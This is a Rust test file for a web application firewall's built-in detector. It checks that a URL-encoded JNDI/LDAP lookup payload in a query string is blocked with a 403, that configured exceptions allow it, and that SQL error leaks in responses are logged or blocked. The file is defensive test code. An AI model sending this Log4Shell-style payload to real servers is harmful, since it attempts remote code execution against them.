//! The built-in detector's part in an inspection.

use std::sync::Arc;

use palisade_http::{RequestHead, ResponseHead};
use palisade_inspect::{
    Attack, Cause, Clock, Detail, End, Input, Inspection, Peer, Profile, Release, Service, Standing, Step,
    UnixMillis,
};
use palisade_model::{Mode, Verdict};

fn clock() -> Clock {
    Clock { now: UnixMillis(1_000_000), utc_offset_seconds: 0, monotonic_micros: 0 }
}

fn begin(service: &Arc<Service>, target: &str) -> (Inspection, Step) {
    let mut head = RequestHead {
        line: format!("GET {target} HTTP/1.1").into_bytes(),
        method: b"GET".to_vec(),
        target: target.into(),
        version: b"HTTP/1.1".to_vec(),
        ..RequestHead::default()
    };
    head.headers.push(b"Host", b"shop.example.com");
    let address = "192.0.2.7:1234".parse().unwrap();
    let peer = Peer {
        peer_addr: address,
        client_addr: address,
        server_addr: address,
        identity: None,
        authenticated: None,
        refused: Vec::new(),
        admission: None,
        towards: None,
        secured: None,
        request_id: "r1".into(),
    };
    Inspection::begin(peer, head, service, Standing::of(service), Detail::Normal, clock())
}

/// A service that the detector alone protects.
fn detecting(mode: Mode, detect: &str) -> Arc<Service> {
    let text = format!(
        "services: [{{name: web, upstream: {{url: \"http://127.0.0.1:1\"}}}}]\nprofiles: {{default: {{mode: {mode}, detect: {detect}, exceptions: [{{attacks: [jndi], points: [\"query:allowed\"]}}]}}}}"
    );
    let file = palisade_config::File { text: text.as_bytes(), folder: "" };
    let read = palisade_config::read(Some(file), &palisade_config::Overrides::default());
    let config = read.config.unwrap_or_else(|| panic!("{:?}", read.diagnostics));
    let profile = config.profiles.iter().next().expect("a profile").1;
    Service::new("web", Profile::of(profile, None))
}

fn outcome_of(service: &Arc<Service>, target: &str) -> (Verdict, Cause, Vec<String>) {
    let (mut inspection, step) = begin(service, target);
    assert_eq!(step, Step::More(Release::default()));
    let Step::Outcome(outcome) = inspection.feed(Input::End, clock()) else { panic!("no outcome") };
    (outcome.verdict, outcome.cause, inspection.finish(End::Complete, clock()).error_log_lines())
}

#[test]
fn the_detector_decides_alone_and_an_exception_allows() {
    let service = detecting(Mode::Block, "{}");
    let attack = "${jndi:ldap://203.0.113.9/a}".replace('$', "%24").replace('{', "%7B").replace('}', "%7D");
    let (verdict, cause, lines) = outcome_of(&service, &format!("/?q={attack}"));
    assert_eq!((verdict, cause), (Verdict::Deny { status: 403 }, Cause::Finding(Attack::Jndi)));
    assert!(lines[0].contains("Palisade: Access denied with code 403 (phase 2)"), "{lines:?}");
    assert!(lines[0].contains("[attack \"jndi\"]") && lines[0].contains("[point \"query:q\"]"), "{lines:?}");
    let allowed = outcome_of(&service, &format!("/?allowed={attack}"));
    assert_eq!(allowed, (Verdict::Pass, Cause::None, Vec::new()));
    assert_eq!(outcome_of(&service, "/?q=hello").0, Verdict::Pass);
    let off = detecting(Mode::Block, "{enabled: false}");
    assert_eq!(outcome_of(&off, &format!("/?q={attack}")).0, Verdict::Pass);
}

#[test]
fn a_leak_is_logged_and_stops_the_response_where_that_is_asked() {
    let error = b"<b>You have an error in your SQL syntax; check the manual";
    for (detect, held, stops) in
        [("{}", false, false), ("{leaks: block}", true, true), ("{leaks: ignore}", false, false)]
    {
        let service = detecting(Mode::Block, detect);
        let (mut inspection, _) = begin(&service, "/");
        let _ = inspection.feed(Input::End, clock());
        let mut head = ResponseHead { status: 500, ..ResponseHead::default() };
        head.headers.push(b"Content-Type", b"text/html");
        let _ = inspection.feed(Input::ResponseHead(head), clock());
        assert_eq!(inspection.wants_response_body(), held, "{detect}");
        if held {
            let _ = inspection.feed(Input::ResponseChunk(error), clock());
            let Step::Outcome(outcome) = inspection.feed(Input::ResponseEnd, clock()) else {
                panic!("no outcome")
            };
            assert_eq!(outcome.verdict != Verdict::Pass, stops, "{detect}");
        } else {
            let watched = inspection.watches_response_body();
            assert_eq!(inspection.watch(error), watched, "{detect}");
        }
        let lines = inspection.finish(End::Complete, clock()).error_log_lines();
        assert_eq!(lines.len(), usize::from(detect != "{leaks: ignore}"), "{detect}: {lines:?}");
    }
}
